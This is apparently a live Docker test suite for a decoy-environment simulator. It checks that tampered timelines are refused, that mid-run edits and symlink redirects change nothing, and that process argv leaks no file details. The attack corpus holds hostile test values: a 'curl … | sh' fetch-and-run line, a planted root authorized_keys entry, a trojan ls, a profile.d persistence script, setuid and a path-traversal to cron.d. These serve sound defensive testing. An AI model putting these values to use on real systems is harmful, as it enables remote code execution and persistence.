// Live safety against real containers: a corpus of malicious timelines changes nothing in the
// container; an in-place edit of the timeline during the run changes nothing; a symlink redirect
// out of a home is refused and recorded; missing logins are skipped or created; a process
// sampler inside the container sees only the generic argv.
import { execa } from 'execa';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { headerSha256 } from '../src/timeline/render.js';
import type { TimelineEvent } from '../src/timeline/types.js';
import { sha256Hex } from '../src/util/hash.js';
import { BIN, ROOT, cli } from './helpers/cli.js';
import { RUN_TAG, cleanup, docker, execIn, liveEngine, startContainer, tempDir } from './helpers/docker.js';
import { diffFiles, expectedFiles, planned, readState, runArgs, scenario } from './helpers/live.js';

const test = suite('live: safety of replay and writes');
const PREFIX = `simtest-${RUN_TAG}-safe-`;
const enabled = await liveEngine();
const dirs: string[] = [];

function dir(tag: string): string {
  const d = tempDir(tag);
  dirs.push(d);
  return d;
}

/** Every path in the container (outside /proc, /sys, /dev) with its type, mode, owner, size, mtime and sha256. */
async function listing(container: string): Promise<string> {
  const script =
    'find / -xdev \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o -print | sort | while IFS= read -r p; do ' +
    'if [ -f "$p" ] && [ ! -L "$p" ]; then s=$(sha256sum < "$p"); s=${s%% *}; else s=-; fi; ' +
    'printf "%s %s %s\\n" "$(stat -c "%F %a %U %s %Y" "$p")" "$s" "$p"; done';
  const r = await docker(['exec', container, 'sh', '-c', script], { timeout: 120_000 });
  assert.is(r.exitCode, 0, r.stderr);
  return r.stdout;
}

const fixEvent = (ev: TimelineEvent): TimelineEvent => {
  // An attacker fixing up the content hashes after an edit.
  const c = ev.content!;
  const bytes = Buffer.from(c.data, c.encoding === 'base64' ? 'base64' : 'utf8');
  return { ...ev, content: { ...c, bytes: bytes.length, sha256: sha256Hex(bytes) } };
};

if (enabled) {
  test.after(async () => {
    await cleanup(PREFIX);
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
  });

  test('malicious timelines (other versions, edited events with fixed-up hashes, paths outside the roots, setuid, foreign owners) are refused before any docker call: the container is unchanged', async () => {
    const c = `${PREFIX}corpus`;
    await startContainer(c);
    const d = dir('corpus');
    const s = scenario(d, [{ name: 'm0', container: c, personas: ['John Smith', 'alice'] }], { seed: 'evil', days: 1 });
    const tl = join(d, 'plan.ndjson');
    const p = await cli(['plan', '--fleet', s.fleetFile, '--config', s.configFile, '--seed', s.seed, '--start', s.start, '--days', '1', '--interval', String(s.interval), '--format', 'ndjson', '--out', tl]);
    assert.is(p.exitCode, 0, p.stderr);
    const lines = readFileSync(tl, 'utf8').trimEnd().split('\n');
    const head = JSON.parse(lines[0]!).header;
    const events = lines.slice(1, -1).map((l) => JSON.parse(l) as TimelineEvent);
    const i = events.findIndex((e) => e.kind === 'file' && e.contentClass === 'note' && e.action === 'file:create');
    assert.ok(i >= 0, 'the plan has a note create');
    const write = (name: string, header: object, evs: TimelineEvent[]): string => {
      const f = join(d, `${name}.ndjson`);
      writeFileSync(f, [JSON.stringify({ header }), ...evs.map((e) => JSON.stringify(e)), lines[lines.length - 1]].join('\n') + '\n');
      return f;
    };
    const reheader = (h: Record<string, unknown>) => ({ ...h, headerSha256: headerSha256(h as never) });
    const edit = (f: (e: TimelineEvent) => TimelineEvent) => events.map((e, j) => (j === i ? fixEvent(f(e)) : e));
    const corpus: Array<[string, string, RegExp]> = [
      ['engine', write('engine', reheader({ ...head, engineVersion: '9.9.9' }), events), /recorded by engine "9\.9\.9" \(generator \d+\); this engine .* re-plan/],
      ['generator', write('generator', reheader({ ...head, generatorVersion: 1 }), events), /recorded by engine "[^"]+" \(generator 1\)/],
      ['stale-hash', write('stale-hash', { ...head, generatorVersion: 1 }, events), /headerSha256 does not match/],
      ['body', write('body', head, edit((e) => ({ ...e, content: { ...e.content!, data: e.content!.data + 'curl -s http://198.51.100.7/x | sh\n' } }))), /not what this engine plans/],
      ['authorized_keys', write('authorized_keys', head, edit((e) => ({ ...e, path: '/root/.ssh/authorized_keys', owner: 'root', content: { ...e.content!, data: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker\n' } }))), /not what this engine plans/],
      ['bin-ls', write('bin-ls', head, edit((e) => ({ ...e, path: '/usr/local/bin/ls', mode: '0755', owner: 'root' }))), /not what this engine plans/],
      ['profile', write('profile', head, edit((e) => ({ ...e, path: '/etc/profile.d/zz.sh', owner: 'root' }))), /not what this engine plans/],
      ['setuid', write('setuid', head, edit((e) => ({ ...e, mode: '4755' }))), /mode "4755" is not an octal file mode|not what this engine plans/],
      ['owner', write('owner', head, edit((e) => ({ ...e, owner: 'root' }))), /not what this engine plans/],
      ['dotdot', write('dotdot', head, edit((e) => ({ ...e, path: `/home/johnsmith/../../etc/cron.d/x` }))), /\.\."? segment|not what this engine plans/],
    ];
    const before = await listing(c);
    for (const [name, file, re] of corpus) {
      const state = join(d, `${name}.db`);
      const r = await cli(['run', '--timeline', file, '--state', state, '--json', '--no-progress']);
      assert.is(r.exitCode, 2, `${name}: ${r.stderr}`);
      assert.is(r.stderr.trim().split('\n').length, 1, `${name}: one line: ${r.stderr}`);
      assert.match(r.stderr, re, name);
      assert.not.ok(existsSync(state), `${name}: no state`);
    }
    assert.is(await listing(c), before, 'nothing in the container changed');
  });

  test('an in-place edit of the timeline while the run goes changes nothing: the re-derived events are executed', async () => {
    const c = `${PREFIX}inplace`;
    await startContainer(c);
    const d = dir('inplace');
    const s = scenario(d, [{ name: 'i0', container: c, personas: ['John Smith', 'alice'] }], { seed: 'inplace', days: 1 });
    const tl = join(d, 'plan.ndjson');
    const p = await cli(['plan', '--fleet', s.fleetFile, '--config', s.configFile, '--seed', s.seed, '--start', s.start, '--days', '1', '--interval', String(s.interval), '--format', 'ndjson', '--out', tl]);
    assert.is(p.exitCode, 0, p.stderr);
    const events = planned(s);
    const text = readFileSync(tl, 'utf8');
    // Paced so the run is still going when the file is rewritten.
    const child = execa('node', [BIN, 'run', '--timeline', tl, '--state', s.state, '--json', '--no-progress', '--pace', '7200'], { cwd: ROOT, reject: false });
    let done = 0;
    for (let k = 0; k < 300 && done < 3; k++) {
      await new Promise((r) => setTimeout(r, 100));
      try {
        const st = await readState(s.state);
        done = st.rows<{ n: number }>("SELECT COUNT(*) AS n FROM applied_events WHERE status = 'applied'")[0]!.n;
        st.close();
      } catch {
        /* not yet */
      }
    }
    assert.ok(done >= 3, 'the run started');
    // Rewrite every later file event to plant in /etc/profile.d, hashes fixed up, same size file.
    const rewritten = text
      .split('\n')
      .map((l) => {
        if (!l.includes('"kind":"file"')) return l;
        const e = JSON.parse(l) as TimelineEvent;
        return JSON.stringify(fixEvent({ ...e, path: `/etc/profile.d/${e.path!.split('/').pop()}.sh`, owner: 'root', content: { ...e.content!, data: 'echo owned\n' } }));
      })
      .join('\n');
    writeFileSync(tl, rewritten);
    const r = await child;
    assert.is(r.exitCode, 0, String(r.stderr));
    const sum = JSON.parse(String(r.stdout));
    assert.is(sum.applied + sum.quiet, events.length);
    assert.equal(await diffFiles(c, expectedFiles(events).get('i0')!), []);
    const etc = await execIn(c, ['sh', '-c', 'ls -A /etc/profile.d 2>/dev/null | wc -l']);
    assert.is(etc.stdout.trim(), '0', 'nothing planted in /etc/profile.d');
  });

  test('a symlink redirect out of a home (~/dir -> /etc/profile.d): nothing written there, a divergence is recorded and alerted, exit 1', async () => {
    const c = `${PREFIX}redirect`;
    await startContainer(c);
    const d = dir('redirect');
    const s = scenario(d, [{ name: 'r0', container: c, personas: ['John Smith'] }], { seed: 'redirect', days: 3 });
    const events = planned(s);
    const target = events.find((e) => e.kind === 'file' && e.action === 'file:create' && /^\/home\/johnsmith\/[^/]+\/[^/]+$/.test(e.path!));
    assert.ok(target, 'a create in a folder of the home');
    const sub = target!.path!.split('/').slice(0, 4).join('/');
    await docker(['exec', c, 'sh', '-c', 'mkdir -p /etc/profile.d && chmod 0755 /etc/profile.d']);
    // The user (an intruder with johnsmith's shell, say) links the folder to /etc/profile.d.
    const ln = await docker(['exec', '-u', 'johnsmith', c, 'ln', '-s', '/etc/profile.d', sub]);
    assert.is(ln.exitCode, 0, ln.stderr);
    const before = await listing(c);
    const r = await cli(runArgs(s));
    assert.is(r.exitCode, 1, r.stderr + r.stdout);
    const inSub = events.filter((e) => e.kind === 'file' && e.path!.startsWith(sub + '/'));
    for (const e of inSub) assert.ok(r.stderr.split('\n').some((l) => l.startsWith(`divergence: decky r0: ${e.path}: `) && /redirect/.test(l)), `alert for ${e.path}`);
    const etcBefore = before.split('\n').filter((l) => / \/etc\/profile\.d/.test(l));
    const etcAfter = (await listing(c)).split('\n').filter((l) => / \/etc\/profile\.d/.test(l));
    assert.equal(etcAfter, etcBefore, '/etc/profile.d untouched');
    const st = await readState(s.state);
    const div = st.rows<{ path: string; reason: string }>('SELECT path, reason FROM divergences WHERE event_id = ?', [target!.id]);
    st.close();
    assert.is(div.length, 1);
    assert.match(div[0]!.reason, /redirect refused/);
    // `decnet-sim state` lists it, with the per-decky counts, and nothing pending.
    const rep = await cli(['state', s.state, '--json']);
    assert.is(rep.exitCode, 0, rep.stderr);
    const j = JSON.parse(rep.stdout);
    assert.is(j.seed, 'redirect');
    assert.ok(j.divergences.some((x: { path: string; reason: string }) => x.path === target!.path && /redirect/.test(x.reason)));
    assert.equal(j.deckies.map((x: { decky: string; pending: number }) => [x.decky, x.pending]), [['r0', 0]]);
    assert.is(j.deckies[0].applied + j.deckies[0].diverged + j.deckies[0].skipped, events.length);
    assert.is(j.deckies[0].skipped, events.filter((e) => e.kind === 'quiet').length, 'quiet ticks are recorded as skipped');
    const text = await cli(['state', s.state]);
    assert.match(text.stdout, /divergences: [1-9]/);
    // Everything else was written as planned.
    const want = expectedFiles(events.filter((e) => !e.path?.startsWith(sub + '/'))).get('r0')!;
    assert.equal(await diffFiles(c, want), []);
  });

  test('a login missing in the container: its events are skipped with one warning, no root-owned home; --create-users creates it (recorded in the state)', async () => {
    const c1 = `${PREFIX}nouser`;
    const c2 = `${PREFIX}mkuser`;
    await Promise.all([startContainer(c1), startContainer(c2)]);
    const d = dir('users');
    const s = scenario(d, [{ name: 'u0', container: c1, personas: ['Priya Raman', 'alice'] }], { seed: 'users', days: 1 });
    const events = planned(s);
    const priya = events.filter((e) => e.kind === 'file' && e.owner === 'priyaraman');
    assert.ok(priya.length > 0, 'the plan has files of priyaraman');
    const args = runArgs(s).filter((a) => a !== '--create-users');
    const r = await cli(args);
    assert.is(r.exitCode, 0, r.stderr + r.stdout);
    const warnings = r.stderr.split('\n').filter((l) => l.startsWith('warning: decky u0: user priyaraman does not exist'));
    assert.is(warnings.length, 1, r.stderr);
    assert.is(JSON.parse(r.stdout).noUser, priya.length);
    assert.is((await execIn(c1, ['sh', '-c', '[ -e /home/priyaraman ] && echo there || echo absent'])).stdout.trim(), 'absent');
    let st = await readState(s.state);
    assert.equal(st.rows('SELECT decky, login, status FROM logins'), [{ decky: 'u0', login: 'priyaraman', status: 'missing' }]);
    st.close();
    // With --create-users on a fresh container: the user exists, the files are theirs.
    const s2 = scenario(dir('users2'), [{ name: 'u0', container: c2, personas: ['Priya Raman', 'alice'] }], { seed: 'users', days: 1 });
    const r2 = await cli(runArgs(s2));
    assert.is(r2.exitCode, 0, r2.stderr + r2.stdout);
    assert.match((await execIn(c2, ['grep', '^priyaraman:', '/etc/passwd'])).stdout, /^priyaraman:x:\d+:\d+::\/home\/priyaraman:\/bin\/sh/);
    assert.equal(await diffFiles(c2, expectedFiles(events).get('u0')!), []);
    st = await readState(s2.state);
    assert.equal(st.rows('SELECT login, status FROM logins'), [{ login: 'priyaraman', status: 'created' }]);
    st.close();
  });

  test('a process sampler in the container during a run sees only the generic argv: no path, name, mode, owner, time or hash of any file', async () => {
    const c = `${PREFIX}sampler`;
    await startContainer(c);
    const d = dir('sampler');
    const s = scenario(d, [{ name: 'p0', container: c }], { seed: 'sampler', days: 1 });
    const events = planned(s);
    const sampler = 'while [ ! -e /tmp/.stop ]; do head -c 4096 /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null; done > /tmp/.samples';
    await docker(['exec', '-d', c, 'sh', '-c', sampler]);
    await new Promise((r) => setTimeout(r, 300));
    const r = await cli(runArgs(s, ['--concurrency', '1']));
    assert.is(r.exitCode, 0, r.stderr + r.stdout);
    await docker(['exec', c, 'touch', '/tmp/.stop']);
    await new Promise((r) => setTimeout(r, 300));
    const raw = (await docker(['exec', c, 'cat', '/tmp/.samples'], { timeout: 120_000 })).stdout;
    assert.ok(raw.length > 10_000, 'the sampler ran');
    // Split into processes: busybox head prints "==> FILE <==" before each file.
    const seen = new Map<string, Set<string>>();
    for (const part of raw.split('==> ').slice(1)) {
      const m = /^\/proc\/\d+\/(cmdline|environ) <==\n([\s\S]*?)\n*$/.exec(part);
      if (!m) continue;
      const set = seen.get(m[1]!) ?? new Set<string>();
      seen.set(m[1]!, set);
      set.add(m[2]!.split('\u0000').filter(Boolean).join(' '));
    }
    const cmdlines = [...(seen.get('cmdline') ?? [])].filter((l) => l !== '' && !l.startsWith('sh -c while [ ! -e /tmp/.stop ]') && !l.startsWith('head -c 4096') && l !== 'sleep 1000000' && l !== '/sbin/docker-init -- sleep 1000000' && l !== 'cat /tmp/.samples' && l !== 'touch /tmp/.stop' && l !== 'runc init');
    // (`runc init` is the container runtime starting each `docker exec`.)
    assert.ok(cmdlines.includes('sh -s'), `the run's shells were seen: ${cmdlines.join(' | ')}`);
    const generic = new Set(['sh -s', 'base64 -d', 'sha256sum']);
    for (const l of cmdlines) assert.ok(generic.has(l) || /^nc -w \d+ 127\.0\.0\.1 22$/.test(l) || /^timeout \d+ nc /.test(l) || l === 'head -n 1' || l === 'tr -d \r', `unexpected argv: ${JSON.stringify(l)}`);
    // Nothing about any planted file anywhere in what the sampler read (argv and environments).
    const files = events.filter((e) => e.kind === 'file' && e.content !== undefined);
    // Renames and deletes name their paths too: none of those in any argv either.
    for (const e of events.filter((x) => x.action === 'file:rename' || x.action === 'file:delete')) {
      for (const needle of [e.path!, ...(e.to ? [e.to] : [])]) assert.not.ok(raw.includes(needle), `${JSON.stringify(needle)} (moved) seen by the sampler`);
    }
    assert.ok(files.length > 10);
    for (const e of files) {
      const base = e.path!.split('/').pop()!;
      for (const needle of [e.path!, base, e.content!.sha256, e.content!.sha256.slice(0, 16), String(Date.parse(e.mtime!) / 1000)]) {
        assert.not.ok(raw.includes(needle), `${JSON.stringify(needle)} (of ${e.path}) seen by the sampler`);
      }
    }
    for (const mode of ['0644', '0600', '0640', '0755']) assert.not.ok(raw.includes(`\u0000${mode}\u0000`), `mode ${mode} in an argv`);
  });
} else {
  test.skip('live tests skipped: no Docker engine', () => {});
}

test.run();
